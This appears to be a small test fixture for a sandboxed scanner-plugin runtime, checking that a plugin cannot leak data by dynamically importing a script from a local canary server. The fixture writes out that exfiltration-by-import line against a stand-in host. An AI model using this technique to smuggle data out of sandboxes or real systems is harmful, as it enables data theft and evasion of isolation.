// Uses an import as a request: the address carries the data out.
// expect: error
// level: host

export async function scan_transaction(t) {
  if (!t.request.url.includes("/bad")) return { title: t.id, evidence: t.response.text() };
  await import("http://127.0.0.1:" + t.request.headers["x-canary-port"] + "/leak.js");
  return { title: "BREACH imported" };
}
